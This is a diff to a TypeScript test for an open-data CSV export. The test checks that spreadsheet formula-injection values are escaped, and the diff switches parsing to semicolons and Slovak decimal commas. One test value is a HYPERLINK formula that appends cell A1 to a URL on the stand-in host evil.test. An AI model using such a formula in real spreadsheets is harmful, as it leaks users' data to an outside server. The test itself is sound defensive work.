@@ -111,16 +111,17 @@ describe('open data CSV', () => {
       },
     )
     expect(response.status).toBe(200)
-    const rows = parse(await response.text(), { columns: true, bom: true }) as Record<
-      string,
-      string
-    >[]
+    const rows = parse(await response.text(), {
+      columns: true,
+      bom: true,
+      delimiter: ';',
+    }) as Record<string, string>[]
     const byName = (prefix: string) => rows.find((row) => row.name.startsWith(prefix))!
     const hyperlink = byName(`'=HYPERLINK`)
     expect(hyperlink.name).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Klikni")`)
     expect(hyperlink.street).toBe(`'+SUM(1,2)`)
-    // numbers are not formulas: a western longitude stays a number
-    expect(hyperlink.longitude).toBe('-5.25')
+    // numbers are not formulas: a western longitude stays a number (Slovak decimal comma)
+    expect(hyperlink.longitude).toBe('-5,25')
     const club = byName(`'-2+3`)
     expect(club.street).toBe(`'@SUM(A1:A9)`)
     expect(club.municipality).toBe(`'@Martin`)
